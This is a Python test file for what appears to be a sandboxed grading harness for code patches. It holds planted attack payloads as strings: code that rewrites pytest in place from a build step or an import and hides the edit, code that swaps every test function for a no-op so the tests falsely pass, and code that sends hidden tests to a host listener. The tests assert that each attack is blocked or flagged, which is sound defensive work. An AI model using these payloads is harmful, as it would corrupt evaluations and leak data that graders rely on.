"""Integrity, round four: the environment a sandbox of the engine's own uid is lent, and
test code swapped before pytest collects it.

A non-root engine (or root with every capability dropped, as Amber starts the green agent)
has no other uid to give its sandbox, so the tests run as the owner of the environment's
files. A view of hard links would let them write those files in place, through their
own, writable workspace: a rewritten pytest reaches every later row on that cache. Here
the sandbox runs as the engine's uid in bubblewrap and in Landlock mode, and a patch
rewrites a file of pytest in place (same size, mtime set back) from its build step and
from the code its tests import. Every write must be refused, the environment and the
prepared workspace must stay byte for byte as they were, and the row is graded as the
code it is. Then code the tests import replaces every test function's code, or the
function, after its module ran: the row must end ``error/log_tampering``.
"""

from __future__ import annotations

import contextlib
import dataclasses
import json
import os
import platform
import shutil
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from swegreen.core.dataset import load_dataset
from swegreen.evaluation.settings import LocalSettings
from swegreen.sample import SampleBenchmark
from swegreen.sandbox import confine
from swegreen.sandbox import seccomp as sc
from swegreen.sandbox.isolation import Isolation, confine_argv, spec_pipe
from tests.conftest import RunSample
from tests.test_integrity import crafted_patch, write
from tests.test_integrity_tools import evaluate_crafted
from tests.test_prepared import tree_digest

MARK = "SWEGREEN-PLANTED"
# the literal must appear only when the code runs (the log shows the patch's diff)
REWRITE = """
import glob, os, sys


def _rewrite(where, say):
    said = "SWEGREEN" + "-PLANTED " + where
    found = glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages",
                                   "_pytest", "__init__.py"))
    if not found:
        say(said + " found nothing")
        return
    target = found[0]
    try:
        st = os.stat(target)
        with open(target, "r+b") as fh:
            data = fh.read()
            fh.seek(0)
            fh.write(data[:-1] + b"#")
        os.utime(target, ns=(st.st_atime_ns, st.st_mtime_ns))
        say(said + " wrote " + target)
    except OSError as exc:
        say(said + " refused " + type(exc).__name__)
"""
# pip hides a build's output: the build leaves its word in the checkout, the import says it
BUILD = """
def _note(line):
    with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "PLANTED.txt"), "a") as fh:
        fh.write(line + "\\n")


_rewrite("build", _note)
from setuptools import setup
setup()
"""
# pytest captures what an import prints: said at exit, once its capture has ended
IMPORT = """
import atexit

_said = []
_note = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "PLANTED.txt")
if os.path.exists(_note):
    with open(_note) as fh:
        _said += fh.read().splitlines()
_rewrite("import", _said.append)
atexit.register(lambda: os.write(2, "".join(line + "\\n" for line in _said).encode()))
"""


def rewrite_pytest_in_place(repo: Path) -> None:
    """From the build step (setup.py) and from the package the tests import."""
    write(repo / "setup.py", REWRITE + BUILD)
    write(repo / "ledger" / "__init__.py", REWRITE + IMPORT, True)


def a_readme(repo: Path) -> None:
    """A patch that changes nothing the tests see."""
    write(repo / "NOTES.md", "nothing to see\n")


@pytest.fixture(params=["bwrap", "landlock"])
def isolation(request: pytest.FixtureRequest) -> Isolation:
    """The sandbox as a non-root engine without namespaces gets it (Amber starts the green
    agent so): the engine's own uid, and in Landlock mode no network namespace either."""
    iso = dataclasses.replace(Isolation.probe(request.param), sandbox_uid=None)
    return dataclasses.replace(iso, netns_cmd=None) if iso.mode == "landlock" else iso


@pytest.fixture
def settings(tmp_path: Path) -> LocalSettings:
    """A cache of this test's own: the attack must not reach the session's."""
    return LocalSettings(output_dir=tmp_path / "results", cache_dir=tmp_path / "cache")


def test_a_sandbox_of_the_engines_uid_cannot_write_the_shared_environment(
    isolation: Isolation,
    run_sample: RunSample,
    sample: SampleBenchmark,
    settings: LocalSettings,
    tmp_path: Path,
) -> None:
    envs = settings.cache_dir / "envs"
    for name in "abc":
        (tmp_path / name).mkdir()
    # the first row builds the environment and prepares the workspace, unharmed
    first, _ = evaluate_crafted(
        a_readme, "same-uid-0", run_sample, sample, settings, tmp_path / "a"
    )
    assert first.status.value == "no_op"
    [env] = [p for p in envs.iterdir() if (p / ".complete").exists()]
    prepared = [p for p in (settings.cache_dir).rglob("seal.json")]
    assert prepared, "no prepared workspace to compare"
    before = tree_digest(env), [tree_digest(p.parent / "env") for p in prepared]

    row, log = evaluate_crafted(
        rewrite_pytest_in_place, "same-uid-1", run_sample, sample, settings, tmp_path / "b"
    )
    said = [line for line in log.splitlines() if line.startswith(MARK)]
    assert any(line.startswith(f"{MARK} build ") for line in said), log[-3000:]
    assert any(line.startswith(f"{MARK} import ") for line in said), log[-3000:]
    assert not [line for line in said if " wrote " in line], said
    assert (tree_digest(env), [tree_digest(p.parent / "env") for p in prepared]) == before
    assert (row.status.value, row.reason) == ("no_op", "no_f2p_pass")
    # the next row starts from what was built
    again, _ = evaluate_crafted(
        a_readme, "same-uid-2", run_sample, sample, settings, tmp_path / "c"
    )
    assert (again.status.value, again.reason) == ("no_op", "no_f2p_pass"), again
    assert "seal_broken" not in again.environment
    assert os.path.getsize(next(env.rglob("_pytest/__init__.py"))) > 0


# -- test functions' code swapped at import --------------------------------------------------

# Code the tests import arranges that when a test module finishes executing, before pytest
# collects it, every test function does nothing: its code replaced by an empty body, or the
# function replaced by one that claims to wrap it (``functools.wraps``) and never calls it.
SWAPPED_AT_IMPORT = """
import functools as _functools
import sys as _sys


def _swap_when_done(frame, event, arg):
    code = frame.f_code
    if event == "return" and code.co_name == "<module>" and "/tests/" in code.co_filename:
        for name, value in list(frame.f_globals.items()):
            if name.startswith("test_") and hasattr(value, "__code__"):
                if {how!r} == "code":
                    value.__code__ = (lambda *args, **kwargs: None).__code__
                else:
                    frame.f_globals[name] = _functools.wraps(value)(lambda *a, **k: None)
    return None


_sys.setprofile(_swap_when_done)
"""


def swapped_at_import(how: str, package: str = "ledger") -> Callable[[Path], None]:
    def plant(repo: Path) -> None:
        init = repo / package / "__init__.py"
        write(init, SWAPPED_AT_IMPORT.format(how=how) + init.read_text())

    return plant


@pytest.mark.parametrize("how", ["code", "wrapper"])
def test_test_code_swapped_before_collection_is_named_and_never_resolves(
    how: str,
    run_sample: RunSample,
    sample: SampleBenchmark,
    settings: LocalSettings,
    tmp_path: Path,
) -> None:
    """Every graded test "passes" with the swap (before the check, the row resolved); it
    must end error/log_tampering, naming the tests whose code is not their file's."""
    row, log = evaluate_crafted(
        swapped_at_import(how), f"swapped-{how}", run_sample, sample, settings, tmp_path
    )
    assert "PASSED tests/test_money.py::test_add_mismatched_currency_raises" in log  # it bit
    assert (row.status.value, row.reason) == ("error", "log_tampering"), row.detail
    assert "its test function's code is not what its file compiles to" in row.detail, row.detail


# -- the network of a test phase without a namespace ---------------------------------------

REACH_OUT = """
import atexit as _atexit
import os as _os
import socket as _socket

_to = ("127.0.0.1", {port})
_tried = []
for _kind, _how in (
    ("tcp", lambda: _socket.create_connection(_to, timeout=5).sendall(b"hidden tests")),
    ("udp", lambda: _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM).sendto(b"x", _to)),
):
    try:
        _how()
        _tried.append("SWEGREEN" + "-PLANTED " + _kind + " sent")
    except OSError as _exc:
        _tried.append("SWEGREEN" + "-PLANTED " + _kind + " refused " + str(_exc.errno))
_atexit.register(lambda: _os.write(2, "".join(t + "\\n" for t in _tried).encode()))
"""


@contextlib.contextmanager
def host_listener() -> Iterator[int]:
    """A TCP and a UDP socket on one port of the host's loopback (a high port, which
    Landlock's TCP rules allow); when the block ends, nothing may have reached either."""
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen()
    tcp.settimeout(0.1)
    port = tcp.getsockname()[1]
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", port))
    udp.settimeout(0.1)
    try:
        yield port
        with pytest.raises(OSError):
            tcp.accept()
        with pytest.raises(OSError):
            udp.recv(100)
    finally:
        tcp.close()
        udp.close()


def reach_out(port: int) -> Callable[[Path], None]:
    def plant(repo: Path) -> None:
        init = repo / "ledger" / "__init__.py"
        write(init, REACH_OUT.replace("{port}", str(port)) + init.read_text())

    return plant


def test_a_test_phase_without_a_network_namespace_reaches_no_host(
    run_sample: RunSample,
    sample: SampleBenchmark,
    settings: LocalSettings,
    tmp_path: Path,
    request: pytest.FixtureRequest,
) -> None:
    """As under Amber (no namespace can be had): the tests' code sends the hidden tests to
    a listener on the host over TCP and UDP (a high port, which Landlock's TCP rules
    allow). Nothing may arrive, and the row is graded as its code."""
    if request.getfixturevalue("isolation").mode != "landlock":
        pytest.skip("bubblewrap always has a network namespace")
    with host_listener() as port:
        row, log = evaluate_crafted(
            reach_out(port), "reach-out", run_sample, sample, settings, tmp_path
        )
    said = [line for line in log.splitlines() if line.startswith(MARK)]
    assert sorted(said) == [f"{MARK} tcp refused 13", f"{MARK} udp refused 13"], said
    assert (row.status.value, row.reason) == ("no_op", "no_f2p_pass"), row.detail


# -- all of it against an engine started as Amber starts the green agent ---------------------

# Docker's default seccomp profile, as far as namespaces go: unshare and setns refused,
# clone with a namespace flag refused, clone3 unknown (glibc falls back to clone).
NAMESPACE_FLAGS = (
    0x7E020000  # CLONE_NEWNS | NEWCGROUP | NEWUTS | NEWIPC | NEWUSER | NEWPID | NEWNET
)


def no_namespaces_filter() -> bytes:

    jset = 0x45
    eperm, enosys = sc.RET_ERRNO | 1, sc.RET_ERRNO | 38
    unshare, setns, clone, clone3 = 272, 308, 56, 435
    program = [
        (sc._LD_ABS_W, 0, 0, sc._OFF_ARCH),
        (sc._JEQ_K, 0, 7, sc.AUDIT_ARCH_X86_64),  # else: allow
        (sc._LD_ABS_W, 0, 0, sc._OFF_NR),
        (sc._JEQ_K, 6, 0, unshare),  # -> eperm
        (sc._JEQ_K, 5, 0, setns),
        (sc._JEQ_K, 5, 0, clone3),  # -> enosys
        (sc._JEQ_K, 0, 2, clone),  # else: allow
        (sc._LD_ABS_W, 0, 0, 16),  # clone's flags
        (jset, 1, 0, NAMESPACE_FLAGS),  # -> eperm
        (sc._RET_K, 0, 0, sc.RET_ALLOW),
        (sc._RET_K, 0, 0, eperm),
        (sc._RET_K, 0, 0, enosys),
    ]
    return b"".join(sc._insn(*insn) for insn in program)


def test_the_attacks_fail_against_an_engine_started_as_amber_starts_it(
    sample: SampleBenchmark, tmp_path: Path
) -> None:
    """``swegreen run`` with no capability, no new privileges and namespaces refused as
    Docker's default seccomp profile refuses them (so no other uid, no network namespace:
    Landlock, symbolic views, no IP), on a fresh cache: pytest rewritten in place and the
    hidden tests sent to a host listener (ledger), test code swapped at import
    (calculator). Nothing is written, nothing arrives, the swap is named."""
    if platform.machine() != "x86_64" or not shutil.which("setpriv") or confine.abi() < 4:
        pytest.skip("needs x86-64, setpriv and Landlock ABI 4+")
    rows = {i.instance_id: i for i in load_dataset(str(sample.dataset)).instances}
    with host_listener() as port:
        out = _run_as_amber(sample, tmp_path, rows, port)
    results = tmp_path / "out" / "amber" / "instances.jsonl"
    assert results.exists(), out.stdout[-3000:] + out.stderr[-3000:]  # (an error row: exit 1)
    assert "network namespaces unavailable" in out.stdout, out.stdout[-3000:]
    got = {r["instance_id"]: r for r in map(json.loads, results.open())}
    ledger, calculator = got["sample__ledger-1"], got["sample__calculator-1"]
    assert (ledger["status"], ledger["reason"]) == ("no_op", "no_f2p_pass"), ledger["detail"]
    assert (calculator["status"], calculator["reason"]) == ("error", "log_tampering")
    assert "its test function's code is not what its file compiles to" in calculator["detail"]
    log = (
        tmp_path / "out" / "amber" / "instances" / "sample__ledger-1" / "test_output.txt"
    ).read_text()
    said = sorted(line for line in log.splitlines() if line.startswith(MARK))
    assert [line for line in said if " wrote " in line or " sent" in line] == [], said
    assert f"{MARK} tcp refused 13" in said and f"{MARK} udp refused 13" in said, said
    assert any(line.startswith(f"{MARK} build refused") for line in said), said
    for pytest_init in (tmp_path / "cache" / "envs").rglob("_pytest/__init__.py"):
        assert pytest_init.read_bytes().endswith(b"\n"), pytest_init  # not rewritten


# -- the environment's metadata -----------------------------------------------------------

CHMOD = """
import atexit as _atexit
import glob as _glob
import os as _os
import sys as _sys

_said = []
for _target in _glob.glob(_os.path.join(_sys.prefix, "lib", "python*", "site-packages",
                                        "_pytest", "__init__.py")):
    try:
        _os.chmod(_target, 0o600)  # still readable: a later row's tests would run, changed
        _said.append("SWEGREEN" + "-PLANTED chmod done")
    except OSError as _exc:
        _said.append("SWEGREEN" + "-PLANTED chmod refused " + str(_exc.errno))
_atexit.register(lambda: _os.write(2, "".join(s + "\\n" for s in _said).encode()))
"""


def test_a_mode_changed_through_a_link_is_seen_and_the_environment_built_again(
    isolation: Isolation,
    run_sample: RunSample,
    sample: SampleBenchmark,
    settings: LocalSettings,
    tmp_path: Path,
) -> None:
    """Landlock covers no metadata: code of the engine's own uid can chmod an environment
    file through the view's link. The environment is sealed when built and checked before
    each use there: the next row finds it changed, sets it aside, builds it again and says
    so. (Under bubblewrap the environment is bound read-only: the chmod is refused.)"""

    def plant(repo: Path) -> None:
        init = repo / "ledger" / "__init__.py"
        write(init, CHMOD + init.read_text())

    for name in "ab":
        (tmp_path / name).mkdir()
    _, log = evaluate_crafted(plant, "chmod-1", run_sample, sample, settings, tmp_path / "a")
    said = [line for line in log.splitlines() if line.startswith(MARK)]
    again, _ = evaluate_crafted(a_readme, "chmod-2", run_sample, sample, settings, tmp_path / "b")
    assert (again.status.value, again.reason) == ("no_op", "no_f2p_pass"), again.detail
    in_use = [e for e in (settings.cache_dir / "envs").iterdir() if ".broken-" not in e.name]
    found = [p for e in in_use for p in e.glob("py/lib/python*/site-packages/_pytest/__init__.py")]
    modes = {oct(p.stat().st_mode & 0o777) for p in found}
    assert modes == {"0o644"}, modes  # the environment in use is as built
    if isolation.mode == "bwrap":
        assert said == [f"{MARK} chmod refused 30"], said  # EROFS
        assert "env_seal_broken" not in again.environment
    else:
        assert said == [f"{MARK} chmod done"], said
        assert "changed since it was built" in again.environment["env_seal_broken"]
        assert list((settings.cache_dir / "envs").glob("*.broken-*")), "kept for inspection"


def _run_as_amber(
    sample: SampleBenchmark, tmp_path: Path, rows: dict, port: int
) -> subprocess.CompletedProcess[str]:
    """``swegreen run`` on the two planted rows, as Amber starts the green agent."""

    def both(repo: Path) -> None:
        rewrite_pytest_in_place(repo)
        reach_out(port)(repo)

    plants = {
        "sample__ledger-1": both,
        "sample__calculator-1": swapped_at_import("code", "calculator"),
    }
    lines = []
    for iid, plant in plants.items():
        inst = rows[iid]
        repo = sample.repos_dir / inst.repo.replace("/", "__")
        patch = crafted_patch(repo, inst.base_commit, tmp_path / iid, plant)
        lines.append(
            json.dumps({"instance_id": iid, "model_name_or_path": "x", "model_patch": patch})
        )
    predictions = tmp_path / "predictions.jsonl"
    predictions.write_text("\n".join(lines) + "\n")
    spec_fd = spec_pipe({"landlock": False, "seccomp": no_namespaces_filter().hex()})
    try:
        out = subprocess.run(
            [
                "setpriv", "--inh-caps=-all", "--bounding-set=-all", "--no-new-privs", "--",
                *confine_argv(spec_fd),
                sys.executable, "-m", "swegreen", "run", "--dataset", "swegreen:sample",
                "--patches", str(predictions), "--instance-ids", ",".join(plants),
                "--isolation", "landlock", "--cache-dir", str(tmp_path / "cache"),
                "--output-dir", str(tmp_path / "out"), "--run-id", "amber", "--no-progress",
            ],
            capture_output=True,
            text=True,
            timeout=900,
            env={**os.environ, "HOME": str(tmp_path)},
            cwd=tmp_path,
            pass_fds=(spec_fd,),
        )  # fmt: skip
    finally:
        os.close(spec_fd)
    return out
